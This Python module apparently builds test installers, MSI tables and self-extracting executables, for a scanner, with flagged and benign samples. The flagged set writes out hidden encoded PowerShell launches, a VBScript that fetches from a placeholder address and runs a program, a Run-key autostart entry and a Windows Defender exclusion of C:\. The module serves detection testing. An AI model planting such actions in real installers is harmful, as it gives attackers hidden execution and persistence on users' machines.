"""Installers in miniature: tables as Windows has them, with actions that name addresses of nobody."""

import importlib.util
from pathlib import Path


def _load(name):
    spec = importlib.util.spec_from_file_location(f"made_{name}", Path(__file__).parents[1] / "_made" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


C = _load("compound")
P = _load("programs")
ABOUT = [("ProductName", "App"), ("Manufacturer", "Example"), ("ProductVersion", "1.0")]
FILES = [("a", "app.exe", 100), ("b", "readme.txt", 20)]


def package(binaries=None, **tables):
    about = ABOUT + tables.pop("Property", [])
    return C.msi({"Property": about, "File": FILES, **tables}, binaries)


def flags():
    enc = "-w hidden -enc " + "QQBBAEEAQQBBAA" * 4
    yield "action_command--powershell", {"a.msi": package(Property=[("PS", "powershell.exe")], CustomAction=[("Run", 50 | 0xC00, "PS", enc)])}
    yield "action_command--cmd", {"a.msi": package(CustomAction=[("Clean", 34, "TARGETDIR", "cmd.exe /c rmdir old")])}
    script = b'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://192.0.2.5/a"\r\nCreateObject("WScript.Shell").Run "calc"\r\n'
    yield "action_script--from-a-stream", {"a.msi": package({"code": script}, CustomAction=[("Go", 6 | 0xC00, "code", "Main")])}
    yield "action_script--inline", {"a.msi": package(CustomAction=[("Go", 38, "", 'CreateObject("WScript.Shell").Run "powershell -enc x"')])}
    yield "action_script--plain", {"a.msi": package(CustomAction=[("Name", 37, "", "Session.Property('A') = '1';")])}
    yield "action_program--inside", {"a.msi": package({"helper": P.pe()}, CustomAction=[("Help", 2 | 0xC00, "helper", "/s")])}
    run = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    yield "autostart--registry", {"a.msi": package(Registry=[("r1", 1, run, "App", "[INSTALLDIR]app.exe")])}
    guard = "SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths"
    yield "lowers_guard--exclusion", {"a.msi": package(Registry=[("r1", 2, guard, "C:\\", "0")])}
    yield "hidden_install--property", {"a.msi": package(Property=[("ARPSYSTEMCOMPONENT", "1")])}
    yield "self_extractor--nsis", {"setup.exe": P.pe(overlay=bytes(4) + b"\xef\xbe\xad\xdeNullsoftInst" + bytes(2000))}
    yield "self_extractor--inno", {"setup.exe": P.pe(overlay=b"Inno Setup Setup Data (6.2.0)" + bytes(2000))}
    settings = b';!@Install@!UTF-8!\r\nTitle="App"\r\nRunProgram="powershell -w hidden -c iex x"\r\n;!@InstallEnd@!'
    yield "started--seven-zip", {"setup.exe": P.pe(overlay=settings + b"7z\xbc\xaf\x27\x1c" + bytes(2000))}


def passes():
    yield "plain-package", {"a.msi": package()}
    yield "package-with-a-library", {"a.msi": package({"ca": P.pe(library=True)}, CustomAction=[("Check", 1, "ca", "CheckVersion"), ("SetDir", 51, "INSTALLDIR", "[X]")])}
    yield "package-with-a-service", {"a.msi": package(ServiceInstall=[("s", "AppService")])}
    yield "long-texts", {"a.msi": package(Property=[("LICENSE", "words " * 20_000)])}
    yield "document", {"a.doc": C.compound({"WordDocument": bytes(700)})}
    yield "program", {"app.exe": P.pe()}
    yield "program-with-words", {"app.exe": P.pe(overlay=b"Inno Setup is an installer. " * 10)}
